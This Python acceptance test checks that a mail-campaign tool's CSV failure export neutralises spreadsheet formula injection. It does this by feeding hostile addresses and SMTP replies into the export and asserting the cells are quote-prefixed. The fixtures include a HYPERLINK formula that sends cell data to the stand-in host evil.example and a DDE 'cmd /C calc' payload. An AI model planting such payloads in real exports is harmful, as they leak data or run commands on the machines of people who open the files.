"""`campaigns failures --csv`: addresses and server replies are attacker-controlled, so no cell
may reach a spreadsheet as a formula."""

from __future__ import annotations

import asyncio
import csv
import io
from pathlib import Path

from tests.acceptance.helpers import make_env
from tests.support import SmtpTestServer

pytest_plugins = ["tests.support.fixtures"]

ADDRESSES = ("=1+2@example.com", "-2+3@example.com", "+sum@example.com", "plain@example.com")
REPLIES = (
    '550 =HYPERLINK("http://evil.example/?x="&A1,"details")',
    "550 @SUM(1+1)*cmd|' /C calc'!A0",
    "550 -1+1",
    "550 +1",
)
SAFE_START = ("=", "+", "-", "@", "\t", "\r")


async def test_failures_csv_neutralises_formula_cells(
    tmp_path: Path, smtp_server: SmtpTestServer
) -> None:
    e = make_env(tmp_path, smtp_server.port, max_attempts=1)
    smtp_server.faults.add("RCPT", *REPLIES)

    async def cli(*args: str) -> str:
        return (await asyncio.to_thread(e.cli, *args)).stdout

    await cli("db", "upgrade")
    await cli("lists", "create", "news")
    (tmp_path / "subs.csv").write_text("email\n" + "\n".join(ADDRESSES) + "\n")
    await cli("subscribers", "import", str(tmp_path / "subs.csv"), "--list", "news")
    (tmp_path / "body.html").write_text("<p>Hello</p>")
    campaign = (
        await cli(
            "campaigns", "create", "--name", "c", "--subject", "s", "--list", "news",
            "--body-file", str(tmp_path / "body.html"),
        )
    ).strip()  # fmt: skip
    await cli("campaigns", "start", campaign)
    await cli("run", "--until-idle")

    rows = list(csv.reader(io.StringIO(await cli("campaigns", "failures", campaign, "--csv"))))
    assert rows[0] == ["email", "status", "attempts", "code", "enhanced", "reason", "server"]
    body = rows[1:]
    assert len(body) == len(ADDRESSES)
    for row in body:
        for cell in row:
            assert not cell.lstrip().startswith(SAFE_START), row
    assert {r[0] for r in body} == {"'" + a if a[0] in "=+-" else a for a in ADDRESSES}
    assert {r[5] for r in body} == {"'" + reply.removeprefix("550 ") for reply in REPLIES}
